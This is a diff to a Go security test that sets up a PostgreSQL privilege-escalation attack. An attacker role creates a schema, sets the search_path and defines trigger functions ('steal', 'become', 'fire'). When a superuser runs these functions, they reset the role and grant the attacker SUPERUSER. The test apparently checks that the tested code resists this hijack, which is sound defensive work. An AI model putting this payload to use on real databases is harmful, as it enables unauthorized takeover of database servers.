@@ -178,10 +178,12 @@ func attack(t *testing.T, server *testenv.Postgres, admin env, mallory, attach s
 	exec1(e, "INSERT INTO outbox_events (event_topic, occurred_at, source_bc, payload) VALUES ('t', now(), 's', '{}')")
 	exec1(e, fmt.Sprintf(`CREATE ROLE %[1]s LOGIN; CREATE SCHEMA %[1]s AUTHORIZATION %[1]s;
 		SET search_path = public, %[1]s; SET SESSION AUTHORIZATION %[1]s;
-		CREATE FUNCTION %[1]s.steal() RETURNS text IMMUTABLE LANGUAGE plpgsql AS $f$ BEGIN
+		CREATE FUNCTION %[1]s.become() RETURNS text LANGUAGE plpgsql AS $f$ BEGIN
 			BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
 			IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
 				EXECUTE 'ALTER ROLE %[1]s SUPERUSER'; END IF; RETURN 'x'; END $f$;
+		CREATE FUNCTION %[1]s.steal() RETURNS text IMMUTABLE LANGUAGE plpgsql AS
+			$f$ BEGIN PERFORM %[1]s.become(); RETURN 'x'; END $f$;
 		CREATE FUNCTION %[1]s.fire() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN PERFORM %[1]s.steal();
 			RETURN coalesce(NEW, OLD); END $f$;
 		RESET SESSION AUTHORIZATION; %[2]s; SET SESSION AUTHORIZATION %[1]s; %[3]s`, mallory, before, behind))
